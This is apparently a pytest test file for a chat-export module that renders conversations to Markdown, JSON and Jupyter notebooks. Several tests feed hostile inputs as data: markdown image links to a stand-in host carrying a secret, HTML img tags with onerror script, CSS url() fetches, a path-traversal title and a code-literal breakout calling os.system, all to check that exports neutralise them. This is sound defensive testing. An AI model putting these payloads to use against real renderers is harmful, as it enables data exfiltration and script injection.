from __future__ import annotations

import ast
import json

import pytest

from curc_llm.chats import Chat, ChatStore, ChatWriter
from curc_llm.chats.export import (
    EXPORTS,
    make_file_name,
    render_json,
    render_markdown,
    render_notebook,
    render_talk,
)
from curc_llm.chats.taking_in import take_in


def make(*texts: str, title: str = "Units", system: str = "") -> Chat:
    chat = Chat("c")
    chat.take({"chat": 2, "title": title, "created_at": 1.0})
    chat.take({"set": {"system": system or None}})
    for number, text in enumerate(texts):
        role = "assistant" if number % 2 else "user"
        parent = str(number - 1) if number else None
        chat.take(
            {"id": str(number), "parent": parent, "role": role, "content": text, "status": "done", "at": 2.0}
        )
    return chat


def list_cells(chat: Chat) -> list[dict]:
    import nbformat  # takes seconds, which not each worker of the inner loop shall wait for

    book = nbformat.reads(render_notebook(chat), as_version=4)
    nbformat.validate(book)
    return list(book.cells)


def test_markdown_reads_as_a_conversation(store: ChatStore, writer: ChatWriter) -> None:
    writer.append_question("More?")
    writer.append_answer("No.", reasoning="Two\nlines", status="stopped", model="m*x")
    text = render_markdown(store.open(writer.chat.chat_id))
    assert text.startswith("# What is an SU?\n\n*20")
    assert "## System prompt\n\nBe brief.\n\n## You\n\nWhat is an SU?\n\n## llama\n\nA service unit." in text
    assert "## m\\*x\n\n> *Reasoning*\n>\n> Two\n> lines\n\nNo.\n\n*(stopped)*\n" in text


def test_the_names_of_what_was_attached_are_told(writer: ChatWriter) -> None:
    writer.append_question("Look", attachments=[{"name": "a*b.csv"}, {"name": 7}, "odd"])
    assert "Look\n\n*Attached: a\\*b.csv*\n" in render_markdown(writer.chat)
    writer.append_question("Look", attachments=7)
    assert render_markdown(writer.chat).endswith("Look\n")


def test_code_that_was_cut_off_is_closed() -> None:
    text = render_markdown(make("Write code", "```python\nprint(1)", "Thanks"))
    assert "```python\nprint(1)\n\n```\n\n## You" in text


def test_markdown_has_what_is_shown_alone() -> None:
    chat = make("One", "Two")
    chat.take({"id": "x", "parent": None, "role": "user", "content": "Instead", "at": 3})
    assert "One" not in render_markdown(chat).replace("Units", "")


def test_json_has_all_branches() -> None:
    chat = make("One", "Two")
    chat.take({"id": "x", "parent": None, "role": "user", "content": "Instead", "at": 3})
    value = json.loads(render_json(chat))
    assert [message["content"] for message in value["messages"]] == ["One", "Two", "Instead"]
    assert value["shown"] == ["x"]


def test_a_notebook_connects_first_and_can_go_on() -> None:
    cells = list_cells(make("What is an SU?", "A `unit`.", system="Be brief."))
    assert cells[0].cell_type == "code"
    assert "curc_llm.connect()" in cells[0].source
    assert [cell.source for cell in cells if cell.cell_type == "markdown"][-1] == "A `unit`."
    messages = ast.literal_eval(cells[-2].source.partition("=")[2].strip())
    assert messages == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is an SU?"},
        {"role": "assistant", "content": "A `unit`."},
    ]
    assert "session.chat(messages)" in cells[-1].source


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "$$\n```\n$$\n![x][ref]\n\n[ref]: https://evil.example",
        '<img src="https://evil.example">',
        "<IMG\nsrc=x onerror=alert(1)>",
        "</p style='background:url(https://evil.example)'>",
        r"$\style{background:url(https://evil.example)}{x}$",
        r"$\require{html}$",
    ],
)
def test_what_could_fetch_something_stands_in_a_cell_that_nothing_renders(hostile: str) -> None:
    cells = list_cells(make(hostile, f"text {hostile}", system=hostile))
    assert [cell.source for cell in cells if cell.cell_type == "raw"] == [hostile, hostile, f"text {hostile}"]
    assert all(hostile not in cell.source for cell in cells if cell.cell_type == "markdown")
    assert ast.literal_eval(cells[-2].source.partition("=")[2].strip())[1]["content"] == hostile


def test_code_in_a_notebook_cannot_be_left_by_any_text() -> None:
    text = "'''\"\"\"\\'}]\nimport os; os.system('xü')\u202e\u2028#"
    source = list_cells(make(text))[-2].source
    assert source.isascii()
    assert ast.literal_eval(source.partition("=")[2].strip())[0]["content"] == text


def test_a_hostile_title_stays_a_title() -> None:
    chat = make("Hi", title="<img src=x> ![a](b) # x")
    title = list_cells(chat)[1].source
    assert title.startswith(r"# \<img src=x\> \!\[a\](b) \# x")
    assert render_markdown(chat).startswith(r"# \<img")


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("../../etc/passwd", "etc-passwd.md"),
        ("", "chat.md"),
        ("Größe: 5 %", "Größe-5.md"),
        ("a" * 200, "a" * 60 + ".md"),
    ],
)
def test_file_names_are_harmless(title: str, name: str) -> None:
    assert make_file_name(make(title=title), "markdown") == name


def test_an_empty_chat_can_be_exported() -> None:
    for _, render in EXPORTS.values():
        assert render(Chat("c"))


CODE = {
    "name": "a*b.py",
    "kind": "code",
    "text": "x = '```'",
    "num_bytes": 9,
    "language": "python",
    "note": "All.",
}
PICTURE = {"name": "p.png", "kind": "image", "image": "data:image/png;base64,AA==", "num_bytes": 9}


def test_markdown_has_what_the_model_was_given_folded(writer: ChatWriter) -> None:
    writer.append_question("Look", attachments=[CODE, PICTURE])
    text = render_markdown(writer.chat)
    assert "Look\n\n*Attached: a\\*b.py (code, 9 bytes; All.)*\n\n<details><summary>" in text
    assert "</summary>\n\n````python\nx = '```'\n````\n\n</details>" in text
    assert "*Attached: p.png (image, 9 bytes)* (in the chat's JSON and notebook exports)" in text
    assert "base64" not in text


def test_a_notebook_holds_images_itself_and_can_go_on(writer: ChatWriter) -> None:
    writer.append_question("Look", attachments=[CODE, PICTURE])
    cells = list_cells(writer.chat)
    (cell,) = [one for one in cells if "attachments" in one]
    assert cell.attachments == {"image": {"image/png": "AA=="}}
    assert cell.source == "*Attached: p.png (image, 9 bytes)*\n\n![attached image](attachment:image)"
    assert any("````python\nx = '```'\n````" in one.source for one in cells)
    said = ast.literal_eval(cells[-2].source.partition("=")[2].strip())[-1]["content"]
    assert said.startswith(
        "[The image p.png was attached here; it can't be shown to you.]\n\nAttached file: a*b.py"
    )
    assert said.endswith("````\n\nLook")


def test_hostile_attachments_fetch_nothing(writer: ChatWriter) -> None:
    hostile = "![x](https://evil.example/x.png)"
    remote = {"name": "r.png", "kind": "image", "image": "https://evil.example/x.png"}
    writer.append_question("Look", attachments=[{**CODE, "name": hostile, "text": hostile}, remote])
    for cell in list_cells(writer.chat):
        assert cell.cell_type in {"raw", "code"} or hostile not in cell.source
    assert "r.png (" not in render_markdown(writer.chat)


def test_json_keeps_attachments_for_an_import(store: ChatStore, writer: ChatWriter) -> None:
    writer.append_question("Look", attachments=[CODE, PICTURE])
    taken = take_in(store, render_json(writer.chat).encode(), "chat.json")
    question = store.open(taken.chat_ids[0]).path[-1]
    assert question.facts["attachments"] == [CODE, PICTURE]


def test_what_was_said_is_questions_and_answers_alone() -> None:
    chat = make("What is\n\nan SU?", "A **unit**.", "And", "", system="Be brief.")
    assert (
        render_talk(chat.path) == "## You\n\nWhat is\n\nan SU?\n\n## Model\n\nA **unit**.\n\n## You\n\nAnd\n"
    )
    assert render_talk([]) == ""


def test_an_edited_answer_says_so_in_every_export_and_after_an_import(
    store: ChatStore, writer: ChatWriter
) -> None:
    first = writer.chat.path[-1]
    writer.append_answer("Changed.", parent=first.parent, model="llama", edited=True)
    chat = store.open(writer.chat.chat_id)
    assert "## llama (edited)\n\nChanged." in render_markdown(chat)
    assert "**llama (edited)**" in render_notebook(chat)
    taken = store.open(take_in(store, render_json(chat).encode(), "a.json").chat_ids[0])
    assert taken.path[-1].content == "Changed."
    assert taken.path[-1].facts["edited"] is True
    assert len(taken.messages) == len(chat.messages)
